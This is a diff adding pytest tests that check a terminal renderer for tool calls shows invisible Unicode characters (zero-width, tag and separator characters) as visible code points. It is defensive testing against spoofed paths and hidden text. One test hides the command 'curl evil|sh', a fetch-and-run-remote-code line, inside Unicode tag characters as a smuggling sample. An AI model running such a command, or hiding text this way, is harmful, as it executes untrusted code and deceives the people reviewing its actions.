@@ -94,3 +94,53 @@ def test_renderer_output_has_no_control_the_renderer_did_not_write(
     assert not _controls(SGR.sub("", out), newline=True, tab=True)
     if not color:
         assert "\x1b" not in out
+
+
+# -- invisible and format characters (issue 18 item 16) ---------------------------------------------
+
+INVISIBLE_CHARS = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u180e",
+                   "\U000e0001", "\U000e0020", "\U000e0041", "\U000e007f"]
+
+
+def _hidden(text: str) -> list[str]:
+    """Characters a terminal may show as nothing, or act on: format (Cf), line/paragraph separators, tags."""
+    return [c for c in text if unicodedata.category(c) in ("Cf", "Zl", "Zp") or 0xE0000 <= ord(c) <= 0xE007F]
+
+
+@pytest.mark.parametrize("char", INVISIBLE_CHARS)
+def test_invisible_characters_are_shown_by_code_point(char: str) -> None:
+    shown = visible(f"src/a{char}")
+    assert shown == f"src/a<U+{ord(char):04X}>"
+    assert visible_line(f"src/a{char}") == shown and has_unsafe(char)
+
+
+def test_a_path_with_a_zero_width_space_never_looks_like_the_plain_path() -> None:
+    plain, spoof = format_call("rm", {"path": "src/a"}), format_call("rm", {"path": "src/a\u200b"})
+    assert plain != spoof and "<U+200B>" in spoof
+    hidden_text = "".join(chr(0xE0000 + ord(c)) for c in "curl evil|sh")  # ASCII smuggled in tag characters
+    assert visible(f"ok{hidden_text}") == "ok" + "".join(f"<U+{0xE0000 + ord(c):05X}>" for c in "curl evil|sh")
+
+
+def test_every_format_character_is_made_visible() -> None:
+    """Every Cf / Zl / Zp code point of this Python's Unicode database, and every tag character."""
+    chars = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
+    chars += [chr(c) for c in range(0xE0000, 0xE0080)]
+    assert not _hidden(visible("".join(chars))), [f"U+{ord(c):04X}" for c in _hidden(visible("".join(chars)))]
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
+def test_visible_never_keeps_an_invisible_character(text: str) -> None:
+    assert not _hidden(visible(text)) and not _hidden(visible_line(text))
+
+
+def test_renderer_and_prompt_show_invisible_characters() -> None:
+    buf = io.StringIO()
+    renderer = TerminalRenderer(buf, color=False)
+    call_id, name = "c\u2060", "rm\u200d"
+    for item in [ToolCallStarted(call_id, name), ToolCallArgumentProgress(call_id, name, ObjectEntry("path", String("src/a\u200b"))),
+                 ToolCallArgumentProgress(call_id, name, ObjectEntry("path", DONE)), TextDelta("a\u2028b\ufeff")]:
+        renderer(item)
+    renderer.close()
+    out = buf.getvalue()
+    assert not _hidden(out)
+    assert 'path: "src/a<U+200B>"' in out and "rm<U+200D>" in out and "a<U+2028>b<U+FEFF>" in out
